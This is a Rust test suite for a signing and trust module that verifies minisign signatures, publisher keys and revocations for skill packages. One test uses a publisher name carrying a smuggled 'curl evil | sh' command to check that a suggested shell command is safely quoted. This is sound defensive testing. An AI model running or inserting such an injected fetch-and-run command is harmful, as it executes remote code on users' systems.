use std::{fs, thread};

use super::*;

/// A key and a signature that minisign 0.11 of Debian made.
const PUBLIC: &str = "untrusted comment: minisign public key 7533604A3D6A1B4
RWS0odajBDZTB4KpBJZvV7dg5nfy8FU1rISGKY6Riu21HvD40aeQkRUa
";
const SECRET: &str = "untrusted comment: minisign encrypted secret key
RWQAAEIyAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAtKHWowQ2UwdcvU+37k\
V2mHJ7QJRRMLz3+Pl4ChuzpS32x8aYu71EL4KpBJZvV7dg5nfy8FU1rISGKY6Riu21HvD40aeQkRUaAAAAAAAAAAAA\
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
";
const SIGNATURE: &str = "untrusted comment: signature from minisign secret key
RUS0odajBDZTB9jVLdGFdaeT98Spaleq14GSG44SJAWL9YkBfNRMqU6vLzQl+IDNqIAtwuptuQ14df6pR+k/3SdkFE1WaH4KBgg=
trusted comment: made by minisign
cchvUM0Tbk7bVjgnhV0uAUvd0iToJ3rPY8cRHSjZhrfP+4wPH6aSuqrFB/7NIfibstlnScLfMzAFWnmGbT3KAA==
";
/// The same without a hash, as `minisign -S -l` makes it.
const LEGACY: &str = "untrusted comment: signature from minisign secret key
RWS0odajBDZTB8Fz0P0ekPOjlhq6CNVQ5l3sMpisYRfWSqJVsSbnXxrS0+b9ok6dpZw9Rgn2wBVMbcCqrM+SRvKuIKIxQxmGMQw=
trusted comment: made by minisign
Ff3RtDKsMMLDFDS+gQYdswSZ63MKckp81mUFsEwsPQwod+TmLytrt/4TVgJYNGbVRkyS4dHJH3uHjOOawNyWAA==
";
const ID: &str = "07533604A3D6A1B4";

const NOW: Timestamp = Timestamp::from_millis(1_700_000_000_000);

fn statement() -> Statement {
    Statement {
        id: "order-status".parse().unwrap(),
        version: "1.2.0".parse().unwrap(),
        digest: Digest::of_bytes(b"postern"),
    }
}

fn trusting(publisher: &str) -> Trust {
    Trust::only(publisher, PUBLIC.parse().unwrap())
}

fn signed(statement: &Statement) -> String {
    sign(statement, SECRET, || None).unwrap()
}

#[test]
fn what_is_signed_is_one_text() {
    let text = "postern skill 1\nid: order-status\nversion: 1.2.0\nsha256: \
                b696ec19b1e95356f45db8ec4736266d08cca80b6e9bc9db6dc4155b070f7376\n";
    assert_eq!(statement().text(), text);
}

#[test]
fn signatures_of_minisign_and_of_our_own_count() {
    let trust = trusting("Shop");
    let wanted = SignedBy { publisher: "Shop".to_owned(), key: ID.to_owned() };
    for signature in [SIGNATURE, &signed(&statement())] {
        assert_eq!(trust.judge("Shop", &statement(), Some(signature)).unwrap(), wanted);
        let windows = signature.replace('\n', "\r\n");
        assert_eq!(trust.judge("Shop", &statement(), Some(&windows)).unwrap(), wanted);
    }
}

#[test]
fn whatever_was_changed_is_told() {
    let trust = trusting("Shop");
    let ok = statement();
    let other_id = Statement { id: "order-refund".parse().unwrap(), ..ok.clone() };
    let other_version = Statement { version: "1.2.1".parse().unwrap(), ..ok.clone() };
    let other_digest = Statement { digest: Digest::of_bytes(b"Postern"), ..ok.clone() };
    for changed in [&other_id, &other_version, &other_digest] {
        let error = trust.judge("Shop", changed, Some(&signed(&ok))).unwrap_err();
        assert!(matches!(error, TrustError::WrongSignature { .. }), "{error}");
        assert!(error.to_string().contains(&changed.digest.to_string()), "{error}");
    }
    let error = trust.judge("Shop", &other_version, Some(&signed(&ok))).unwrap_err().to_string();
    assert!(error.contains("order-status@1.2.1"), "{error}");
    assert!(error.contains("(its comment says \"postern skill order-status 1.2.0\")"), "{error}");

    // Each letter of the signature counts, but for the comment that nobody signed.
    let good = signed(&ok);
    let unsigned = good.lines().next().unwrap().len();
    for at in (unsigned + 1)..good.len() {
        let mut bytes = good.clone().into_bytes();
        bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
        let text = String::from_utf8(bytes).unwrap();
        assert!(trust.judge("Shop", &ok, Some(&text)).is_err(), "letter {at} does not count");
    }
    for cut in 0..good.trim_end().len() {
        assert!(trust.judge("Shop", &ok, Some(&good[..cut])).is_err(), "cut at {cut}");
    }
}

#[test]
fn who_is_not_trusted_is_told_what_would_help() {
    let signature = signed(&statement());
    let refused = |trust: &Trust, publisher: &str, signature: Option<&str>| {
        trust.judge(publisher, &statement(), signature).unwrap_err()
    };
    let error = refused(&trusting("Shop"), "Shop", None);
    assert!(matches!(error, TrustError::Unsigned { .. }), "{error}");
    assert!(error.to_string().contains("--allow-unsigned"), "{error}");

    let error = refused(&Trust::default(), "Shop", Some(&signature));
    assert!(matches!(error, TrustError::UnknownKey { .. }), "{error}");
    assert!(error.to_string().contains(&format!("key {ID}")), "{error}");
    assert!(error.to_string().contains("`postern trust add 'Shop' PUBLIC-KEY`"), "{error}");
    // The command does nothing else when it is copied.
    let error = refused(&Trust::default(), "x'; curl evil | sh; '", Some(&signature)).to_string();
    assert!(error.contains(r"trust add 'x'\''; curl evil | sh; '\''' PUBLIC-KEY"), "{error}");

    // A key counts for its own publisher only.
    let error = refused(&trusting("Shop"), "Bank", Some(&signature));
    assert!(matches!(error, TrustError::OtherPublisher { .. }), "{error}");
    assert!(
        error.to_string().contains("'Bank'") && error.to_string().contains("'Shop'"),
        "{error}"
    );
    // Nobody is accused of what they did not sign.
    let other = Statement { version: "9.0.0".parse().unwrap(), ..statement() };
    let error = trusting("Shop").judge("Bank", &other, Some(&signature)).unwrap_err();
    assert!(matches!(error, TrustError::WrongSignature { .. }), "{error}");

    for (text, reason) in [
        ("", "four lines"),
        ("no signature", "four lines"),
        (LEGACY, "old form"),
        (&"x".repeat(MOST_SIGNATURE_BYTES + 1), "too long"),
    ] {
        let error = refused(&trusting("Shop"), "Shop", Some(text));
        assert!(matches!(error, TrustError::Signature { .. }), "{error}");
        assert!(error.to_string().contains(reason), "{error}");
    }
}

#[test]
fn a_key_of_the_same_id_is_another_key() {
    let theirs = generate(None).unwrap();
    // What is a trusted key's id in somebody else's key.
    let mut bytes = decode(&theirs.secret);
    bytes[54..62].copy_from_slice(&decode(PUBLIC)[2..10]);
    let forged = format!("untrusted comment: x\n{}\n", encode(&bytes));
    let signature = sign(&statement(), &forged, || None).unwrap();
    let error = trusting("Shop").judge("Shop", &statement(), Some(&signature)).unwrap_err();
    assert!(matches!(error, TrustError::WrongSignature { .. }), "{error}");
}

fn decode(file: &str) -> Vec<u8> {
    use base64::{Engine as _, prelude::BASE64_STANDARD};
    BASE64_STANDARD.decode(file.lines().nth(1).unwrap()).unwrap()
}

fn encode(bytes: &[u8]) -> String {
    use base64::{Engine as _, prelude::BASE64_STANDARD};
    BASE64_STANDARD.encode(bytes)
}

#[test]
fn what_is_revoked_does_not_count_until_somebody_says_so() {
    let data = tempfile::tempdir().unwrap();
    let digest = statement().digest;
    let edit = |act: &dyn Fn(&mut Edit)| {
        let mut edit = Edit::begin(data.path()).unwrap();
        act(&mut edit);
        edit.save().unwrap();
        Trust::load(data.path()).unwrap()
    };
    let by = SignedBy { publisher: "Shop".to_owned(), key: ID.to_owned() };
    let judged = |trust: &Trust| trust.judge("Shop", &statement(), Some(SIGNATURE));
    let key: PublicKey = PUBLIC.parse().unwrap();

    let trust = edit(&|edit| edit.add("Shop", key.clone(), NOW).unwrap());
    assert_eq!(judged(&trust).unwrap(), by);
    assert_eq!(trust.revoked(digest, Some(&by)), None);

    let what = Revoked::Digest(digest);
    let reason = || Some("sends money twice".to_owned());
    let trust = edit(&|edit| edit.revoke(what.clone(), reason(), NOW).unwrap());
    let error = judged(&trust).unwrap_err();
    assert!(matches!(error, TrustError::RevokedDigest { .. }), "{error}");
    assert!(error.to_string().contains("2023-11-14T22:13:20.000Z (sends money twice)"), "{error}");
    assert_eq!(trust.revoked(digest, None).unwrap().what, what);
    assert_eq!(trust.revoked(Digest::of_bytes(b"other"), Some(&by)), None);
    let again = Edit::begin(data.path()).unwrap().revoke(what.clone(), None, NOW).unwrap_err();
    assert!(matches!(again, EditError::Already(_)), "{again}");

    let trust = edit(&|edit| drop(edit.unrevoke(&what).unwrap()));
    assert_eq!(judged(&trust).unwrap(), by);

    let what = Revoked::Key(ID.parse().unwrap());
    let trust = edit(&|edit| edit.revoke(what.clone(), None, NOW).unwrap());
    let error = judged(&trust).unwrap_err();
    assert!(matches!(error, TrustError::RevokedKey { .. }), "{error}");
    assert_eq!(trust.revoked(digest, Some(&by)).unwrap().what, what);
    assert_eq!(trust.revoked(digest, None), None);
    assert_eq!(trust.keys(), []);
    // It does not come back, neither so nor under another id.
    let mut other = decode(PUBLIC);
    other[2] ^= 1;
    for key in [key.clone(), encode(&other).parse().unwrap()] {
        let error = Edit::begin(data.path()).unwrap().add("Bank", key, NOW).unwrap_err();
        assert!(matches!(error, EditError::Revoked { .. }), "{error}");
        assert!(error.to_string().contains(&format!("postern trust unrevoke {ID}")), "{error}");
    }

    // Whoever takes it back has not trusted it by that.
    let trust = edit(&|edit| drop(edit.unrevoke(&what).unwrap()));
    let error = judged(&trust).unwrap_err();
    assert!(matches!(error, TrustError::UnknownKey { .. }), "{error}");
    let error = Edit::begin(data.path()).unwrap().unrevoke(&what).unwrap_err();
    assert!(matches!(error, EditError::NotRevoked(_)), "{error}");
}

#[test]
fn a_key_has_one_publisher() {
    let data = tempfile::tempdir().unwrap();
    let mut edit = Edit::begin(data.path()).unwrap();
    let key: PublicKey = PUBLIC.parse().unwrap();
    edit.add("Shop", key.clone(), NOW).unwrap();
    let error = edit.add("Bank", key.clone(), NOW).unwrap_err();
    assert!(matches!(error, EditError::Taken { .. }), "{error}");
    for name in ["", " ", "a\u{7}", &"x".repeat(401)] {
        assert!(
            matches!(edit.add(name, key.clone(), NOW), Err(EditError::Text { .. })),
            "{name:?}"
        );
    }
    assert_eq!(edit.remove(key.id()).unwrap(), "Shop");
    assert!(matches!(edit.remove(key.id()), Err(EditError::NoKey(_))));
    // A change that is given up was none.
    drop(edit);
    assert_eq!(Trust::load(data.path()).unwrap(), Trust::default());
    assert_eq!(Trust::stamp(data.path()).unwrap(), None);
}

#[test]
fn changes_at_the_same_time_are_all_kept() {
    let data = tempfile::tempdir().unwrap();
    thread::scope(|scope| {
        for n in 0..8_u8 {
            let data = data.path();
            scope.spawn(move || {
                let mut edit = Edit::begin(data).unwrap();
                edit.revoke(Revoked::Digest(Digest::of_bytes(&[n])), None, NOW).unwrap();
                edit.save().unwrap();
            });
        }
    });
    assert_eq!(Trust::load(data.path()).unwrap().revocations().len(), 8);
}

#[test]
fn a_damaged_file_is_an_error_and_its_stamp_changes() {
    let data = tempfile::tempdir().unwrap();
    let mut edit = Edit::begin(data.path()).unwrap();
    edit.add("Shop", PUBLIC.parse().unwrap(), NOW).unwrap();
    edit.revoke(Revoked::Key("0123456789ABCDEF".parse().unwrap()), None, NOW).unwrap();
    edit.revoke(Revoked::Digest(Digest::ZERO), Some("why".to_owned()), NOW).unwrap();
    edit.save().unwrap();
    let path = data.path().join(FILE_NAME);
    let good = fs::read_to_string(&path).unwrap();
    let stamp = Trust::stamp(data.path()).unwrap();

    let check = |text: &str, reason: &str| {
        assert_ne!(text, good, "{reason}: nothing was changed");
        fs::write(&path, text).unwrap();
        let error = Trust::load(data.path()).unwrap_err();
        assert!(matches!(error, TrustError::File { .. }), "{error}");
        assert!(error.to_string().contains(reason), "{error}");
        assert!(error.to_string().contains("nobody is trusted"), "{error}");
        assert_ne!(Trust::stamp(data.path()).unwrap(), stamp);
        assert!(Edit::begin(data.path()).is_err(), "nothing is written over it");
    };
    check(&good[..good.len() / 2], "line ");
    check(&format!("{good}\ncolour = \"red\"\n"), "unknown field `colour`");
    check(&good.replace("version = 1", "version = 2"), "version 2 is not known");
    check(&good.replace("RWS0", "RWS1"), "keys[0].id: the key says");
    check(&good.replace("RWS0", "AAAA"), "keys[0].public_key: ");
    check(&good.replace("digest = ", "key = \"0123456789ABCDEF\"\ndigest = "), "revoked[1]: must");
    check("", "missing field `version`");
    let keys = good.find("[[keys]]").unwrap()..good.find("[[revoked]]").unwrap();
    check(&format!("{good}{}", &good[keys]), "stands here twice");

    fs::write(&path, &good).unwrap();
    let trust = Trust::load(data.path()).unwrap();
    assert_eq!(file::text(&trust), good);
    assert_eq!(Trust::stamp(data.path()).unwrap(), stamp);
}

#[test]
fn a_file_that_is_gone_is_missed() {
    let data = tempfile::tempdir().unwrap();
    let mut edit = Edit::begin(data.path()).unwrap();
    edit.revoke(Revoked::Digest(Digest::ZERO), None, NOW).unwrap();
    edit.save().unwrap();
    fs::remove_file(data.path().join(FILE_NAME)).unwrap();
    for error in [Trust::load(data.path()).unwrap_err(), Trust::stamp(data.path()).unwrap_err()] {
        assert!(matches!(error, TrustError::Gone { .. }), "{error}");
    }
    assert!(Edit::begin(data.path()).is_err(), "nothing is revoked by mistake");
    // As the error says.
    fs::write(data.path().join(FILE_NAME), "version = 1\n").unwrap();
    assert_eq!(Trust::load(data.path()).unwrap(), Trust::default());
}

#[test]
fn keys_are_recognised_in_what_people_paste() {
    let text = PUBLIC.lines().nth(1).unwrap();
    for given in [PUBLIC, text, &format!("  {text}\n"), &PUBLIC.replace('\n', "\r\n")] {
        assert_eq!(given.parse::<PublicKey>().unwrap().id().to_string(), ID);
    }
    for given in ["", "RW", SECRET, SIGNATURE, &text[1..], &format!("{text}\n{text}")] {
        assert!(given.parse::<PublicKey>().is_err(), "{given:?}");
    }
    // minisign leaves out leading zeros.
    assert_eq!("7533604A3D6A1B4".parse::<KeyId>().unwrap().to_string(), ID);
    for given in
        ["", "1", "363837ae888d", "0123456789ABCDEFA", "0123456789ABCDEG", "+123456789ABCDEF"]
    {
        assert!(given.parse::<KeyId>().is_err(), "{given:?}");
    }
    assert_eq!(
        format!("sha256:{}", "0".repeat(64)).parse(),
        Ok(Revoke(Revoked::Digest(Digest::ZERO)))
    );
    assert_eq!("0".repeat(64).parse(), Ok(Revoke(Revoked::Digest(Digest::ZERO))));
    assert!("order-status".parse::<Revoke>().is_err());
    assert_eq!(ID.parse(), Ok(Revoke(Revoked::Key(ID.parse().unwrap()))));
    // The beginning of a digest is no key: that would revoke nothing.
    for given in ["363837ae888d", &ID[1..], &"0".repeat(63)] {
        let error = given.parse::<Revoke>().unwrap_err();
        assert!(error.contains("postern skill list --json"), "{given}: {error}");
    }
}

#[test]
fn a_locked_key_signs_with_its_password_only() {
    let keys = generate(Some("correct horse".to_owned())).unwrap();
    let signs = |password: Option<&str>| {
        sign(&statement(), &keys.secret, || password.map(ToOwned::to_owned))
    };
    assert!(matches!(signs(None), Err(SigningError::Locked)));
    assert!(matches!(signs(Some("wrong horse")), Err(SigningError::WrongPassword)));
    let signature = signs(Some("correct horse")).unwrap();
    let trust = Trust::only("Shop", keys.public.parse().unwrap());
    assert!(trust.judge("Shop", &statement(), Some(&signature)).is_ok());

    for no_key in ["", &keys.public, SIGNATURE, &SECRET[..SECRET.len() - 9]] {
        let error = sign(&statement(), no_key, || panic!("asked for a password")).unwrap_err();
        assert!(matches!(error, SigningError::NoSecretKey), "{error}");
    }
    let mut damaged = decode(SECRET);
    damaged[70] ^= 1;
    let damaged = format!("untrusted comment: x\n{}\n", encode(&damaged));
    let error = sign(&statement(), &damaged, || None).unwrap_err();
    assert!(matches!(error, SigningError::Damaged), "{error}");
}
